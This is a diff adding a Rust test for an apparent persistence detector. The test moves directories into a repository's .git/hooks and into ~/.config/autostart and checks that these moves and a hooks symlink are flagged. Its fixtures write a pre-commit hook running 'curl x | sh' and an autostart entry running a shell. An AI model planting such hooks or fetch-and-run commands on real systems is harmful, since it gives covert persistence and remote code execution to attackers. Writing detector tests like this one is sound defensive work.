@@ -266,3 +266,64 @@ fn reads_of_files_that_reuse_an_inode_number_are_each_seen() {
         .collect();
     assert_eq!(read.len(), 20, "{read:#?}");
 }
+
+/// Issue 15 item 7: a hooks directory built in /tmp and moved into a repository's `.git`,
+/// and a directory renamed to `~/.config/autostart`, plant every file they hold at once; a
+/// symbolic link named `.git/hooks` to such a directory does the same.
+#[test]
+fn a_directory_moved_where_its_files_would_run_is_persistence() {
+    let h = home();
+    let repo = h.work.join("app");
+    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
+    let linked = h.work.join("other");
+    std::fs::create_dir_all(linked.join(".git")).unwrap();
+    std::fs::create_dir_all(h.home.join(".config")).unwrap();
+    let hooks = h.work.join("h");
+    let autostart = h.work.join("as");
+    let plain = h.work.join("plain");
+    let script = format!(
+        "set -e
+         mkdir {hooks} {autostart} {plain}
+         printf '#!/bin/sh\\ncurl x | sh\\n' > {hooks}/pre-commit; chmod +x {hooks}/pre-commit
+         printf '[Desktop Entry]\\nExec=sh -c x\\n' > {autostart}/x.desktop
+         rm -r {repo}/.git/hooks; mv {hooks} {repo}/.git/hooks
+         mv {autostart} {home}/.config/autostart
+         ln -s {repo}/.git/hooks {linked}/.git/hooks
+         mv {plain} {work}/src",
+        hooks = text(&hooks),
+        autostart = text(&autostart),
+        plain = text(&plain),
+        repo = text(&repo),
+        linked = text(&linked),
+        home = text(&h.home),
+        work = text(&h.work),
+    );
+    let r = sh_in(&h, &script);
+    let renamed_to = |to: &Path| {
+        r.files()
+            .iter()
+            .find(|f| f["op"] == "rename" && f["new_path"] == text(to))
+            .unwrap_or_else(|| panic!("no rename to {}; files: {:#?}", to.display(), r.files()))
+    };
+    for to in [repo.join(".git/hooks"), h.home.join(".config/autostart")] {
+        let f = renamed_to(&to);
+        assert_eq!(f["persistence"], true, "{f:#}");
+    }
+    assert_eq!(renamed_to(&h.work.join("src"))["persistence"], false);
+    let link = one(&r, &linked.join(".git/hooks"), "create");
+    assert_eq!(link["persistence"], true, "{link:#}");
+    let found = violations(&r, "persistence");
+    for to in [
+        repo.join(".git/hooks"),
+        h.home.join(".config/autostart"),
+        linked.join(".git/hooks"),
+    ] {
+        assert!(
+            found
+                .iter()
+                .any(|v| v["summary"].as_str().unwrap().contains(text(&to))),
+            "no finding names {}: {found:#?}",
+            to.display()
+        );
+    }
+}
